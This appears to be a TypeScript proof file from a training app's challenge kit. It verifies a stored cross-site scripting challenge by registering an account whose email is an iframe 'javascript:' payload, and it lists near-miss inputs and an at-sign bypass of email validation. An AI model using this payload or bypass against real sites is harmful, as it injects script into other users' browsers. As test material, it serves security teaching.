import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
const PASSWORD = 'ripe plums'

const register = (attacker: Attacker, email: string, further: object = {}) =>
  attacker.post('/api/Users', { email, password: PASSWORD, passwordRepeat: PASSWORD, ...further })

export const proof = prove(challenge, {
  exploit: (attacker) => register(attacker, PAYLOAD),
  nearMisses: {
    'an ordinary registration': (attacker) => register(attacker, 'pip@customer.test'),
    'the payload already escaped': (attacker) => register(attacker, '&lt;iframe src="javascript:alert(`xss`)"&gt;'),
    'the payload inside a comment, where nothing runs': (attacker) => register(attacker, `<!-- ${PAYLOAD} -->`),
    'a tag that cannot act': (attacker) => register(attacker, '<b>pip</b>@customer.test'),
    'the payload as the password': (attacker) =>
      register(attacker, 'pip@customer.test', { password: PAYLOAD, passwordRepeat: PAYLOAD }),
    'the payload as the name, which the table does not show': (attacker) =>
      register(attacker, 'pip@customer.test', { username: PAYLOAD }),
    'a registration that is refused, since nothing is stored': (attacker) =>
      register(attacker, PAYLOAD, { role: 'gardener' }),
    'the payload at the login, which stores no e-mail': (attacker) =>
      attacker.post('/rest/user/login', { email: PAYLOAD, password: PASSWORD }),
  },
  bypasses: {
    'ask-for-an-at-sign': (attacker) => register(attacker, `${PAYLOAD}@customer.test`),
  },
})
